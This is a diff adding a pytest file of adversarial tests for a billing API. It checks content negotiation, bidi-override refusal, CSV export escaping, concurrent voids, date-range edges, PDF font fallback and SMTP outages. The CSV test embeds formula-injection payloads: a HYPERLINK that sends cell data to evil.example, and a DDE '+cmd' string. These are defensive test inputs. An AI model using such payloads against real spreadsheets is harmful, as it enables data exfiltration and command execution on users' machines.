@@ -1,0 +1,160 @@
+"""Billing documents attacked as a hostile or unlucky user or operator would (docs/billing.md): Accept headers that
+do not want a PDF, bidi overrides in billing details, formulas behind a tab in the accountant's CSV, two issuers
+voiding at once, the period filter's edges, names no installed font can print, and SMTP down when a receipt is
+issued."""
+
+import asyncio
+import csv
+import io
+import logging
+import shutil
+import subprocess
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from test_billing import checkout, pay
+from test_receipts import DETAILS, admin_token, receipts
+
+from billing import receipts as billing_receipts
+from billing.pdf import Document, Party, render
+from billing.receipts import AlreadyVoid, Billing
+from storage.billing import BillingStore
+
+pytestmark = [pytest.mark.gen_test(timeout=60), pytest.mark.settings(admin_emails="boss@example.com")]
+
+
+async def paid(api, token: str, usd: float = 10) -> dict:
+    order = await checkout(api, token, "USDTTRC20", usd)
+    await pay(api, token, order["order_id"], usd)
+    return (await receipts(api, token))[0]
+
+
+@pytest.mark.parametrize(
+    "accept, pdf",
+    [
+        ("application/pdf", True),
+        ("application/json;q=0.5, application/pdf", True),
+        ("application/pdf, */*", True),
+        ("application/pdf;q=0", False),  # "not acceptable" in RFC 9110
+        ("application/pdf;q=0.9, application/json", False),  # JSON preferred
+        ("application/pdf;q=0.5, */*;q=0.8", False),
+        ("*/*", False),
+        ("text/html,application/xhtml+xml,*/*;q=0.8", False),  # a browser's
+    ],
+)
+async def test_the_accept_header_gets_the_type_it_prefers(api, accept, pdf):
+    token = (await api.register())["token"]
+    number = (await paid(api, token))["number"]
+    status, body, headers = await api.call(
+        "GET", f"/billing/receipts/{number}", token=token, headers={"Accept": accept}
+    )
+    assert status == 200
+    if pdf:
+        assert headers["Content-Type"] == "application/pdf" and body.startswith(b"%PDF")
+    else:
+        assert headers["Content-Type"].startswith("application/json") and body["number"] == number
+
+
+@pytest.mark.parametrize("name", ["Acme \u202egnp.exe\u202c Ltd", "\u2067Acme\u2069", "Acme\u200b\x7f"])
+async def test_bidi_overrides_in_billing_details_are_refused(api, name):
+    token = (await api.register())["token"]
+    for field in ("legal_name", "tax_id"):
+        status, body, _ = await api.call("PUT", "/billing/details", {**DETAILS, field: name}, token=token)
+        assert status == 422 and body["detail"][0]["loc"] == ["body", field], body
+    status, body, _ = await api.call("PUT", "/billing/details", {**DETAILS, "address": "1 Road\n\u202eX"}, token=token)
+    assert status == 422 and body["detail"][0]["loc"] == ["body", "address"]
+    # Right-to-left letters themselves, and the marks LRM and RLM, are a name as given.
+    arabic = "شركة البيانات\u200f المحدودة"
+    status, body, _ = await api.call("PUT", "/billing/details", {**DETAILS, "legal_name": arabic}, token=token)
+    assert status == 200 and body["legal_name"] == arabic
+
+
+async def test_the_accountants_csv_quotes_formulas_behind_a_tab_or_return_and_edges_of_the_period(api, ctx):
+    admin = await admin_token(api, ctx)
+    user = await api.register()
+    hostile = '\t=HYPERLINK("http://evil.example/?"&A1,"refund")'
+    credit = {"credits": 1000, "reason": "bank transfer", "paid_usd": 1, "payment_reference": hostile}
+    status, credited, _ = await api.call("POST", f"/admin/accounts/{user['account_id']}/credit", credit, token=admin)
+    assert status == 200, credited
+    credit["payment_reference"] = "\r+cmd|' /C calc'!A0"
+    status, second, _ = await api.call("POST", f"/admin/accounts/{user['account_id']}/credit", credit, token=admin)
+    assert status == 200, second
+    today = datetime.now(UTC).date()
+    period = f"?from={today}&to={today + timedelta(days=1)}&format=csv"
+    status, body, _ = await api.call("GET", "/admin/billing/receipts" + period, token=admin)
+    rows = {row["number"]: row for row in csv.DictReader(io.StringIO(body.decode()))}
+    assert rows[credited["receipt"]]["payment_reference"] == "'" + hostile
+    assert rows[second["receipt"]]["payment_reference"].startswith("'\r+cmd")
+    # A void reason is printed on documents and in the CSV: control characters are refused, nothing voided.
+    void = f"/admin/billing/receipts/{credited['receipt']}/void"
+    for reason in ("\t=1+1 refund", "ok\x00reason", "a \u202eb c"):
+        status, body, _ = await api.call("POST", void, {"reason": reason}, token=admin)
+        assert status == 422 and body["detail"][0]["loc"] == ["body", "reason"], body
+    assert (await api.call("GET", f"/billing/receipts/{credited['receipt']}", token=user["token"]))[1]["void"] is None
+    # A credit note is not a receipt: voiding one is 404.
+    status, voided, _ = await api.call("POST", void, {"reason": "typed twice"}, token=admin)
+    note = voided["credit_note"]["number"]
+    status, _, _ = await api.call("POST", f"/admin/billing/receipts/{note}/void", {"reason": "again"}, token=admin)
+    assert status == 404
+    # The period: [from, to) in UTC days; a `to` not after `from` is empty; the widest range a date allows is fine.
+    edges = {
+        f"?from={today}&to={today}": 0,
+        f"?from={today + timedelta(days=1)}&to={today}": 0,
+        f"?from={today - timedelta(days=1)}&to={today}": 0,
+        "?from=0001-01-01&to=9999-12-31": 2,
+    }
+    for query, count in edges.items():
+        status, listing, _ = await api.call("GET", "/admin/billing/receipts" + query, token=admin)
+        mine = [r for r in listing["receipts"] if r["account_id"] == user["account_id"]]
+        assert status == 200 and len(mine) == count, query
+    for query in ("?from=2026-02-30", "?to=10000-01-01", "?from=yesterday"):
+        assert (await api.call("GET", "/admin/billing/receipts" + query, token=admin))[0] == 422, query
+
+
+async def test_two_issuers_voiding_at_once_give_one_credit_note_and_no_gap(api, ctx):
+    """Two issuers on one database (each process has its own turn-taking and its own idea of the highest
+    number): the same receipt voided by both gets one credit note; two receipts voided at once get consecutive
+    credit note numbers."""
+    token = (await api.register())["token"]
+    numbers = [(await paid(api, token, usd))["number"] for usd in (10, 11, 12)]
+    other = Billing(ctx.billing.state, BillingStore(ctx.billing.store.documents.database), ctx.billing.payments, None)
+    outcomes = await asyncio.gather(
+        ctx.billing.void(numbers[0], "duplicate payment"),
+        other.void(numbers[0], "paid twice"),
+        return_exceptions=True,
+    )
+    notes = [o[1] for o in outcomes if isinstance(o, tuple)]
+    refused = [o for o in outcomes if isinstance(o, AlreadyVoid)]
+    assert len(notes) == 1 and len(refused) == 1 and refused[0].args[0]["_id"] == notes[0]["_id"]
+    both = await asyncio.gather(ctx.billing.void(numbers[1], "wrong account"), other.void(numbers[2], "wrong account"))
+    seqs = sorted(note["seq"] for _, note in both)
+    assert seqs == [notes[0]["seq"] + 1, notes[0]["seq"] + 2]
+    store = ctx.billing.store.documents
+    assert await store.count_documents({"series": "C", "voids": {"$in": numbers}}) == 3
+
+
+@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext missing: apt-get install -y poppler-utils")
+def test_a_name_no_installed_font_has_is_never_silently_missing(tmp_path):
+    """Without a CJK font (none is installed by ./dev or the image) a Japanese company's name must not vanish
+    from "Billed to": it prints as '?', which tells the reader a name is there."""
+    name = "株式会社ソーシャルデータ"
+    page = Document(
+        operator="Acme", title="Receipt R-2026-000001", parties=(Party("Billed to", (name, "Ελλάδα", "Rocket 🚀")),)
+    )
+    path = tmp_path / "r.pdf"
+    path.write_bytes(render(page))
+    text = subprocess.run(["pdftotext", str(path), "-"], check=True, capture_output=True, text=True).stdout
+    lines = text.split("BILLED TO", 1)[1].split()
+    assert lines[0] in (name, "?" * len(name))
+    assert "Ελλάδα" in lines and "Rocket" in lines and lines[lines.index("Rocket") + 1] in ("🚀", "?")
+
+
+@pytest.mark.settings(smtp_url="smtp://127.0.0.1:9")  # the discard port: nothing listens
+async def test_smtp_down_at_issue_time_still_issues_the_receipt_and_logs_the_failure(api, caplog):
+    token = (await api.register())["token"]
+    assert (await api.call("PUT", "/billing/details", DETAILS, token=token))[0] == 200
+    with caplog.at_level(logging.WARNING, logger="gateway.billing"):
+        receipt = await paid(api, token)
+        await asyncio.gather(*billing_receipts._pending)
+    assert receipt["customer"]["email"] == DETAILS["email"]
+    assert any(f"receipt {receipt['number']} not emailed" in r.getMessage() for r in caplog.records)
